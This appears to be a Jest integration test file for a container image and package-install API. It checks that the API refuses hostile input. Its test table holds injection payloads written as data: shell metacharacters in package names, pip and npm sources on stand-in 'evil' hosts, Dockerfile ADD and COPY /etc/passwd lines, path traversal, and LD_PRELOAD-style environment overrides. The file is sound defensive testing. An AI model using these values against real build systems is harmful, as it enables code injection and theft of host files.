import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Problem } from '@gantry/contracts';
import { Api } from '../support/api.js';
import { startStack, type Stack } from '../support/stack.js';

const order = { languages: ['python', 'node', 'bash', 'csharp'] };
const pip = (...names: string[]): object => ({ ...order, packages: { pip: names } });
const env = (name: string, value = 'x'): object => ({ ...order, environment: { [name]: value } });
const named = (image_name: unknown): object => ({ ...order, image_name });
const docker = (...lines: string[]): object => ({
  ...order,
  custom_dockerfile: ['FROM bookworm', ...lines].join('\n'),
});
const install = (package_name: string, more: object = {}): object => ({ language: 'bash', package_name, ...more });

type Row = [what: string, body: object, code: string, path: string];

/** Without a worker and with the queue watched: what is refused here has touched neither queue nor engine. */
describe('bad input about images and packages', () => {
  let stack: Stack;
  let api: Api;
  beforeAll(async () => {
    stack = await startStack({
      workers: 0,
      env: { ALLOW_CUSTOM_DOCKERFILE: 'true', ALLOWED_BASE_IMAGES: 'registry.example/base:1' },
    });
    api = new Api(stack.url);
  });
  afterAll(async () => {
    expect((await api.call('GET', '/jobs')).body).toEqual({ jobs: [], next_cursor: null });
    expect((await api.call('GET', '/images')).body).toEqual({ images: [], next_cursor: null });
    await stack.close();
  });

  async function refuse(route: string, body: object, code: string, path: string): Promise<void> {
    const answer = await api.call<Problem>('POST', route, { wait_seconds: 0, ...body });
    expect([answer.body.code, answer.body.errors[0]?.path]).toEqual([code, path]);
    expect(answer.status).toBe(422);
    expect(answer.headers.get('content-type')).toContain('application/problem+json');
  }

  test.each<Row>([
    ['no language', { languages: [] }, 'invalid_request', 'languages'],
    ['an unknown language', { languages: ['bash', 'klingon'] }, 'unknown_language', 'languages[1]'],
    ['an unknown field', { ...order, privileged: true }, 'invalid_request', 'privileged'],
    ['an unknown manager', { ...order, packages: { gem: ['a'] } }, 'invalid_request', 'packages.gem'],
    ['a line break in a name', pip('ok', 'a\nRUN id'), 'invalid_request', 'packages.pip[1]'],
    ['a semicolon', pip('a;id'), 'invalid_request', 'packages.pip[0]'],
    ['a backtick', pip('a`id`'), 'invalid_request', 'packages.pip[0]'],
    ['a command', pip('$(id)'), 'invalid_request', 'packages.pip[0]'],
    ['an option', pip('--index-url=http://evil'), 'invalid_request', 'packages.pip[0]'],
    ['a URL', pip('a @ https://evil/a.whl'), 'invalid_request', 'packages.pip[0]'],
    ['a file', { ...order, packages: { npm: ['@file'] } }, 'invalid_request', 'packages.npm[0]'],
    ['git', { ...order, packages: { npm: ['a@git+ssh://evil'] } }, 'invalid_request', 'packages.npm[0]'],
    ['a path', { ...order, packages: { nuget: ['../a'] } }, 'invalid_request', 'packages.nuget[0]'],
    ['a removal', { ...order, packages: { apt: ['jq', 'libc6-'] } }, 'invalid_request', 'packages.apt[1]'],
    ['another order to apt', { ...order, system_packages: ['gcc+'] }, 'invalid_request', 'system_packages[0]'],
    ['a bad requirement', { ...order, requirements: { python: 'ok -e' } }, 'invalid_request', 'requirements.python'],
    ['one of a list', { ...order, requirements: { npm: ['a', 'b c'] } }, 'invalid_request', 'requirements.npm[1]'],
    [
      'requirements of nobody',
      { ...order, requirements: { requests: '2.31' } },
      'invalid_request',
      'requirements.requests',
    ],
    ['a prototype', { ...order, requirements: { constructor: 'a' } }, 'invalid_request', 'requirements.constructor'],
    ['two versions', pip('a==1', 'a==2'), 'invalid_request', 'packages.pip[1]'],
    [
      'packages of another language',
      { languages: ['bash'], packages: { npm: ['a'] } },
      'invalid_request',
      'packages.npm[0]',
    ],
    ['a registry in a name', named('evil.example/a'), 'invalid_request', 'image_name'],
    ['a port in a name', named('evil:5000/a'), 'invalid_request', 'image_name'],
    ['a path in a name', named('../a'), 'invalid_request', 'image_name'],
    ['capitals in a name', named('Mine'), 'invalid_request', 'image_name'],
    ['an id for a name', named('img_00000000000000000000000000000000'), 'invalid_request', 'image_name'],
    ['a digest for a name', named('sha256:00'), 'invalid_request', 'image_name'],
    ['a short id for a name', named('0123456789ab'), 'invalid_request', 'image_name'],
    ['two tags', named('a:b:c'), 'invalid_request', 'image_name'],
    ['a line break in a tag', named('a:b\n'), 'invalid_request', 'image_name'],
    ['a base that is not allowed', { ...order, base_os: 'ubuntu:22.04' }, 'invalid_request', 'base_os'],
    ['a preloaded library', env('LD_PRELOAD'), 'invalid_request', 'environment.LD_PRELOAD'],
    ['a start-up file of bash', env('BASH_ENV'), 'invalid_request', 'environment.BASH_ENV'],
    ['options of node', env('NODE_OPTIONS'), 'invalid_request', 'environment.NODE_OPTIONS'],
    ['another index of pip', env('pip_index_url'), 'invalid_request', 'environment.pip_index_url'],
    ['another registry of npm', env('npm_config_registry'), 'invalid_request', 'environment.npm_config_registry'],
    ['a proxy', env('https_proxy'), 'invalid_request', 'environment.https_proxy'],
    ['the PATH', env('PATH'), 'invalid_request', 'environment.PATH'],
    ['a line break in a value', env('A', 'b\nRUN id'), 'invalid_request', 'environment.A'],
    ['a bad variable', env('A B'), 'invalid_request', 'environment.A B'],
    ['ADD', docker('ADD http://evil/a /'), 'custom_dockerfile_refused', 'custom_dockerfile'],
    [
      'a mount',
      docker('RUN --mount=type=bind,source=/,target=/h id'),
      'custom_dockerfile_refused',
      'custom_dockerfile',
    ],
    ['COPY of what did not come', docker('COPY /etc/passwd /'), 'custom_dockerfile_refused', 'custom_dockerfile'],
    ['two stages', docker('FROM bookworm'), 'custom_dockerfile_refused', 'custom_dockerfile'],
    ['files for nothing', { ...order, files: [{ path: 'a', content: '' }] }, 'invalid_request', 'files'],
    ['a file outside', { ...docker(), files: [{ path: '../a', content: '' }] }, 'invalid_request', 'files[0].path'],
    [
      'a file in a file',
      {
        ...docker(),
        files: [
          { path: 'a', content: '' },
          { path: 'a/b', content: '' },
        ],
      },
      'invalid_request',
      'files[1].path',
    ],
    [
      'what is no base64',
      { ...docker(), files: [{ path: 'a', content: '?', encoding: 'base64' }] },
      'invalid_request',
      'files[0].content',
    ],
    ['a wait without end', { ...order, wait_seconds: 1e9 }, 'invalid_request', 'wait_seconds'],
  ])('POST /images/create refuses %s', (_what, body, code, path) => refuse('/images/create', body, code, path));

  test.each<Row>([
    ['no package', { language: 'bash' }, 'invalid_request', 'package_name'],
    ['an unknown language', { language: 'klingon', package_name: 'a' }, 'unknown_language', 'language'],
    ['a language without packages', { language: 'lua', package_name: 'a' }, 'invalid_request', 'language'],
    ['a removal', install('gcc-'), 'invalid_request', 'package_name'],
    ['an option', install('-o'), 'invalid_request', 'package_name'],
    ['a command', install('a`id`'), 'invalid_request', 'package_name'],
    ['a bad version', install('jq', { package_version: '1.6 || id' }), 'invalid_request', 'package_version'],
    [
      'a version without a name',
      { language: 'bash', packages: ['jq'], package_version: '1' },
      'invalid_request',
      'package_version',
    ],
    ['a bad one of several', install('jq', { packages: ['curl', 'a/b'] }), 'invalid_request', 'packages[1]'],
    [
      'an image of nobody',
      install('jq', { image_id: 'img_00000000000000000000000000000000' }),
      'unknown_image',
      'image_id',
    ],
    ['an image of the engine', install('jq', { image_id: 'gantry/executor:quick' }), 'unknown_image', 'image_id'],
    ['an install in place', install('jq', { build_new_image: false }), 'package_in_place', 'build_new_image'],
  ])('POST /packages/install refuses %s', (_what, body, code, path) => refuse('/packages/install', body, code, path));

  test('an image that is none is not there, and is not run on', async () => {
    for (const id of ['img_00000000000000000000000000000000', 'nobody', '..%2Fetc', 'a%0Ab', '%F0%9F%98%80']) {
      expect((await api.call('GET', `/images/${id}`)).status).toBe(404);
      expect((await api.call('DELETE', `/images/${id}`)).status).toBe(404);
    }
    await refuse('/execute', { language: 'bash', code: '', image_id: '../../etc' }, 'unknown_image', 'image_id');
    for (const id of ['job_00000000000000000000000000', 'exec_00000000000000000000000000', 'x']) {
      for (const [method, path] of [
        ['GET', ''],
        ['DELETE', ''],
        ['POST', '/cancel'],
        ['GET', '/stream'],
      ] as const)
        expect((await api.call(method, `/jobs/${id}${path}`)).status).toBe(404);
    }
    expect((await api.call('GET', '/images?cursor=x')).status).toBe(422);
    expect((await api.call('GET', '/jobs?limit=0')).status).toBe(422);
    expect((await api.call('PUT', '/images/create')).status).toBe(405);
  });

  test('what is well-formed waits for a worker and is told so; nothing was accepted', async () => {
    for (const [route, body] of [
      [
        '/images/create',
        { ...order, packages: { apt: ['g++', 'libstdc++-12-dev'] }, base_os: 'registry.example/base:1' },
      ],
      ['/packages/install', install('jq', { package_version: '1.6-2.1' })],
    ] as const) {
      const answer = await api.call('POST', route, body);
      expect(answer).toMatchObject({ status: 503, body: { code: 'no_worker' } });
      expect(answer.headers.get('retry-after')).not.toBeNull();
    }
  });

  test('a custom Dockerfile where none is allowed is 403', async () => {
    const strict = await startStack({ workers: 0 });
    try {
      const answer = await new Api(strict.url).call('POST', '/images/create', docker('RUN id'));
      expect(answer).toMatchObject({ status: 403, body: { code: 'custom_dockerfile_disabled' } });
    } finally {
      await strict.close();
    }
  });
});
